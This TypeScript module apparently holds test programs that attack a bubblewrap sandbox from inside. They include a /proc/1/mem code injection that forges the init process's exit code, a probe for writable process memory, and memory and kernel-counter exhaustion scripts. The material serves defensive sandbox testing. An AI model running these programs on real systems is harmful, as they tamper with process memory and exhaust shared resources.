/** Programs that attack the sandbox from inside, as files of a commit. Python calls the kernel without packages. */

/**
 * Machine code for x64: writes 1 to the event descriptor of the sandbox's init process, which means "exit code 0" to
 * bubblewrap, and exits. The number of the descriptor is in bytes 1 to 4.
 */
const FORGERY = 'bf00000000488d3515000000ba08000000b8010000000f0531ffb8e70000000f050100000000000000';

/** Makes the init process report exit code 0: its next instructions become FORGERY. */
export const FORGE_EXIT_CODE = `
const fs = require('node:fs');
const next = Number(fs.readFileSync('/proc/1/syscall', 'latin1').trim().split(' ').at(-1));
const isEvent = (fd) => fs.readlinkSync('/proc/1/fd/' + fd).includes('eventfd');
const code = Buffer.from('${FORGERY}', 'hex');
code.writeUInt32LE(Number(fs.readdirSync('/proc/1/fd').find(isEvent)), 1);
fs.writeSync(fs.openSync('/proc/1/mem', 'r+'), code, 0, code.length, next);
console.log('forged');
`;

/** Tries to open the memory of every process of the sandbox for writing. Prints a line for each that can be opened. */
export const OPEN_MEMORY = `
const fs = require('node:fs');
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$|^self$|^thread-self$/.test(name))) {
  try {
    fs.openSync('/proc/' + pid + '/mem', 'r+');
    console.log('opened', pid);
  } catch (error) {
    console.log('refused', error.code);
  }
}
`;

/** The kinds of memory that TAKE_MEMORY can take. */
export const MEMORY_KINDS = ['private', 'shared', 'memfd', 'System V', 'queue', 'semaphores'] as const;

/** Takes 600 MiB of a kind, slowly enough for every check to see it. It ends with success. */
export const TAKE_MEMORY = `
import ctypes, mmap, os, sys, time
kind, MIB = sys.argv[1], 2 ** 20
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
kept = []
def call(result):
    if result == -1: raise OSError(ctypes.get_errno(), 'refused')
    return result
def take():
    if kind == 'private':
        # In many processes, each below the kernel's limit for one.
        if os.fork() == 0:
            block = b'x' * (25 * MIB); time.sleep(1000)
    elif kind == 'shared':
        block = mmap.mmap(-1, 25 * MIB); kept.append(block)
        for at in range(0, 25 * MIB, 4096): block[at] = 1
    elif kind == 'memfd':
        fd = os.memfd_create('x'); os.write(fd, b'x' * (25 * MIB))
    elif kind == 'System V':
        at = libc.shmat(call(libc.shmget(0, 25 * MIB, 0o1600)), None, 0)
        ctypes.memset(at, 1, 25 * MIB); libc.shmdt(ctypes.c_void_p(at))
    elif kind == 'queue':
        for n in range(1600):
            queue = call(libc.msgget(0, 0o1600))
            for m in range(2): call(libc.msgsnd(queue, ctypes.c_char_p(b'\\1\\0\\0\\0\\0\\0\\0\\0' + b'x' * 8180), 8180, 0))
    else:
        for n in range(13): call(libc.semget(0, 32000, 0o1600))
try:
    for n in range(24): take(); time.sleep(0.1)
    print('took it')
except OSError as error:
    print('refused', error.errno)
`;

/** Uses up what the kernel counts for each user, then becomes the program in its arguments and keeps it. */
export const USE_UP_COUNTERS = `
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
def most(call, limit):
    taken = 0
    while taken < limit and call() != -1: taken += 1
    return taken
limit = int(sys.argv[1])
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
names = iter(range(10 ** 6))
def open_queue():
    name = b'/leadwright-%d-%d' % (os.getpid(), next(names))
    queue = libc.mq_open(name, 0o102, 0o600, None)
    # An open queue lasts as long as its process; a named one would be left on the machine.
    libc.mq_unlink(name)
    return queue
taken = {
    'inotify': most(libc.inotify_init, limit),
    'queues': most(open_queue, limit),
    'signals': most(lambda: libc.sigqueue(os.getpid(), signal.SIGRTMIN, None), limit),
}
print(taken, flush=True)
if len(sys.argv) > 2: os.execv('/bin/sleep', sys.argv[2:])
`;
